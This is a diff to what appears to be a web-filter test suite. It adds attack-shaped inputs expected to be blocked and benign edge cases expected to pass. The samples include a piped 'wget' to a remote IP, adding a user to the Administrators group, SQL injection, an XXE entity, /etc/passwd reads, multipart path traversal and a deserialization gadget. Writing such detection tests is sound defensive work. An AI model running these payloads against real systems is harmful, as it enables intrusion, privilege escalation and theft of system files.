@@ -7862,6 +7862,9 @@ test_what_is_near_to_an_attack_passes_and_a_longer_one_does_not() {
 	FOR /F %G IN ('x') DO ECHO %G
 	IF NOT EXIST c:\\\\x del y
 	if %a% geq 2 goto x
+	if exist c:\\\\windows\\\\x.txt
+	| wget http://192.0.2.4/x |:
+	a"\\r\\na1 login x
 	x | net localgroup Administrators eve /ADD
 	1 union#x
 	1 and conv(version(),10,2)
@@ -7939,6 +7942,22 @@ evil = '<?xml version="1.0" encoding="%s"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:
 expect(403, 'XML in EBCDIC', xml, (evil % 'cp037').encode('cp037'))
 expect(403, 'XML in UTF-16', xml, (evil % 'utf-16').encode('utf-16'))
 expect(403, 'XML that says UTF-7', xml, '<?xml version="1.0" encoding="utf-7"?><a/>')
+for body in "<a><!-- ' --><x>/etc/passwd</x><!-- ' --></a>", "<a><?b '?><x>/etc/passwd</x><?b '?></a>", '<a b="/etc/passwd"/>':
+    expect(403, body, xml, body)
+expect(200, 'XML with comments', xml, "<a><!-- it's --><?b it's?><x y=\"it's\">fine</x></a>")
+more = {
+ 'a path in filename*': f'--X\r\n{F}; filename="a.txt"; filename*=UTF-8' + "''..%2f..%2f..%2fetc%2fpasswd\r\n\r\nx",
+ 'an empty filename*': f'--X\r\n{F}; filename="a.txt"; filename*=UTF-8' + f"''\r\n\r\n{P}",
+ 'two charsets': f'--X\r\n{F}\r\nContent-Type: text/plain; charset=utf-8; charset=utf-7\r\n\r\nx',
+ 'an empty head': f'--X\r\n\r\n{Z}\r\n\r\n{P}',
+}
+for what, body in more.items(): expect(403, what, mp, body + end)
+for body in b'\xfe\xff\x00{\x00"', b'\x00{\x00\n\x00"', b'\xff\xfe\x00\x00{\x00\x00\x00', '<a/>'.encode('utf-16-le'):
+    expect(403, body, 'application/foo', body)
+big = f'--X\r\n{F}\r\n\r\n'
+for n in range(-3, 9):
+    fill = (131072 - len(big) - len(end) + n) * 'x'
+    expect(200, 'a form of %d octets' % len(big + fill + end), mp, big + fill + end)
 expect(200, 'XML that says UTF-8', xml, '<?xml version="1.0" encoding="UTF-8"?><a b="c">d</a>')
 pad = ' '.join(['quiet words of prose'] * 12)
 for what in '"@type":"com.sun.rowset.JdbcRowSetImpl"', '"constructor":{"a":"%s","prototype":{"b":1}}' % pad, '"q":"' + P + '"', '"q":"a\\nid; ls"':
@@ -8267,6 +8286,12 @@ END
 	xml||<a>
 	xml||<a b="
 	xml||<a b="c">
+	xml|<a |=
+	xml|<a |a=
+	xml|<a |=''
+	xml||<!--
+	xml||<!-- -->
+	xml||<?
 	xml||<![CDATA[
 	xml||<![CDATA[]]>
 	xml|<![CDATA[|]
